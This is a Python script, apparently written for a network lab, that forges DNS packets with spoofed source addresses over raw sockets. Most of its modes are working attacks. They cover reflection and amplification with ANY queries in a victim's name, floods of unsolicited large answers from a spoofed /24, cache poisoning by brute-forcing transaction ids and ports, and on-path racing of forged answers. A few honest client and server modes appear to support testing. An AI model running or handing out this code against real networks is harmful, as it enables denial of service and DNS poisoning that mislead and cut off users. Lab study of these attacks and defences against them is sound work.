#!/usr/bin/env python3
"""What no honest program sends: DNS over UDP with another's address. For the lab's namespaces only.

    forge.py reflect VICTIM SERVER NAME COUNT RATE      questions in the victim's name
    forge.py strike VICTIM NETWORK NAME COUNT RATE      large answers that nobody asked for, from servers of a /24
    forge.py guess CLIENT PORT SERVER NAME COUNT RATE   answers under one id after another
    forge.py spray CLIENT SERVER NAME COUNT RATE        answers to one port after another
    forge.py probe CLIENT SERVER COUNT RATE             empty datagrams from the server's port 53 to one port after another
    forge.py race INTERFACE NAME ADDRESS                answers before the server does, whoever asks for the name
    forge.py double INTERFACE NAME                      a server's answers for the name, once more
    forge.py ask SERVER PORT NAME TIMES                 an honest client that repeats its question at once
    forge.py mixed SERVER NAME COUNT                    an honest client that writes the name in random letters (0x20)
    forge.py leave SERVER NAME COUNT                    an honest client that asks from many ports and does not wait
    forge.py rotate ADDRESS                             an honest server whose answers are never the same
    forge.py small ADDRESS                              an honest server that answers in small letters, always
    forge.py slow ADDRESS                               an honest server that keeps letters, and takes its time

race, double, rotate, small and slow run until they are ended; ask and mixed print how many answers came.
"""
import itertools
import random
import socket
import struct
import sys
import time

A, TXT, ANY = 1, 16, 255
QUERY, ANSWER = 0x0100, 0x8180


def wire(name):
    return b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"


def message(ident, flags, name, qtype, answers=()):
    """answers: pairs of type and data. A question offers 4096 octets (RFC 6891)."""
    out = struct.pack("!HHHHHH", ident, flags, 1, len(answers), 0, 1) + wire(name) + struct.pack("!HH", qtype, 1)
    for kind, data in answers:
        out += struct.pack("!HHHIH", 0xC00C, kind, 1, 300, len(data)) + data
    return out + struct.pack("!BHHIH", 0, 41, 4096, 0, 0)


def datagram(source, sport, target, dport, payload, ttl=64, ident=None):
    """IP and UDP, without checksum: the kernel writes IP's, UDP's may be none over IPv4."""
    ident = random.randrange(1, 65536) if ident is None else ident
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), ident, 0, ttl, 17, 0,
                       socket.inet_aton(source), socket.inet_aton(target))
    return head + struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload


def paced(count, rate):
    begun = time.monotonic()
    for i in range(count):
        wait = begun + i / rate - time.monotonic()
        if wait > 0:
            time.sleep(wait)
        yield i


def raw():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def reflect(victim, server, name, count, rate):
    with raw() as s:
        for i in paced(int(count), int(rate)):
            s.sendto(datagram(victim, 80, server, 53, message(i & 0xFFFF, QUERY, name, ANY)), (server, 0))


def strike(victim, network, name, count, rate):
    text = bytes([250]) + b"x" * 250
    with raw() as s:
        for i in paced(int(count), int(rate)):
            source = network.rsplit(".", 1)[0] + "." + str(1 + i % 200)
            packet = message(i & 0xFFFF, ANSWER, name, ANY, [(TXT, text)] * 4)
            s.sendto(datagram(source, 53, victim, 1024 + i % 60000, packet), (victim, 0))


def guess(client, port, server, name, count, rate):
    with raw() as s:
        for i in paced(int(count), int(rate)):
            packet = message(20000 + i, ANSWER, name, A, [(A, socket.inet_aton("192.0.2.66"))])
            s.sendto(datagram(server, 53, client, int(port), packet), (client, 0))


def spray(client, server, name, count, rate):
    with raw() as s:
        for i in paced(int(count), int(rate)):
            packet = message(7, ANSWER, name, A, [(A, socket.inet_aton("192.0.2.66"))])
            s.sendto(datagram(server, 53, client, 20000 + i, packet), (client, 0))


def passing(interface, name, port_at):
    """IP packets with port 53 at this end (20: source, 22: target) that hold the name."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as s:
        s.bind((interface, 0x0800))
        while True:
            packet, where = s.recvfrom(65535)
            if where[2] != socket.PACKET_OUTGOING and packet[0] == 0x45 and packet[9] == 17 and \
                    packet[port_at:port_at + 2] == b"\0\x35" and wire(name) in packet.lower():
                yield packet


def race(interface, name, address):
    with raw() as s:
        for packet in passing(interface, name, 22):
            client, server = (socket.inet_ntoa(packet[i:i + 4]) for i in (12, 16))
            port, ident = (struct.unpack_from("!H", packet, i)[0] for i in (20, 28))
            forged = message(ident, ANSWER, name, A, [(A, socket.inet_aton(address))])
            s.sendto(datagram(server, 53, client, port, forged, ttl=200), (client, 0))


def double(interface, name):
    with raw() as s:
        for packet in passing(interface, name, 20):
            s.sendto(packet, (socket.inet_ntoa(packet[16:20]), 0))


def ask(server, port, name, times):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind(("0.0.0.0", int(port)))
        s.settimeout(1)
        for _ in range(int(times)):
            s.sendto(message(4242, QUERY, name, A), (server, 53))
        count = 0
        try:
            while True:
                s.recv(4096)
                count += 1
        except TimeoutError:
            print(count)


def probe(client, server, count, rate):
    with raw() as s:
        for i in paced(int(count), int(rate)):
            s.sendto(datagram(server, 53, client, 20000 + i, b""), (client, 0))


def mixed(server, name, count):
    answers = 0
    for turn in range(int(count)):
        letters = "".join(random.choice((c, c.upper())) for c in name)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(1)
            s.sendto(message(random.randrange(65536), QUERY, "W" + letters[1:], A), (server, 53))
            try:
                answers += len(s.recv(4096)) > 0
            except TimeoutError:
                pass
    print(answers)


def leave(server, name, count):
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(int(count))]
    for s in sockets:
        s.sendto(message(random.randrange(65536), QUERY, name, A), (server, 53))
        s.close()


def served(address, name_of, data_of, delay=0):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((address, 53))
        for turn in itertools.count(1):
            question, client = s.recvfrom(4096)
            end = question.index(b"\0", 12)
            name = question[12:end]
            labels = []
            while name:
                labels.append(name[1:1 + name[0]].decode())
                name = name[1 + name[0]:]
            time.sleep(delay)
            s.sendto(message(struct.unpack("!H", question[:2])[0], ANSWER, name_of(".".join(labels)), A,
                             [(A, data_of(turn))]), client)


def rotate(address):
    served(address, str, lambda turn: bytes([192, 0, 2, turn % 250 + 1]))


def small(address):
    served(address, str.lower, lambda turn: bytes([192, 0, 2, 80]))


def slow(address):
    served(address, str, lambda turn: bytes([192, 0, 2, 80]), 0.05)


if __name__ == "__main__":
    what = {f.__name__: f for f in (reflect, strike, guess, spray, probe, race, double, ask, mixed, leave, rotate, small, slow)}
    if len(sys.argv) < 2 or sys.argv[1] not in what:
        sys.exit(__doc__)
    what[sys.argv[1]](*sys.argv[2:])
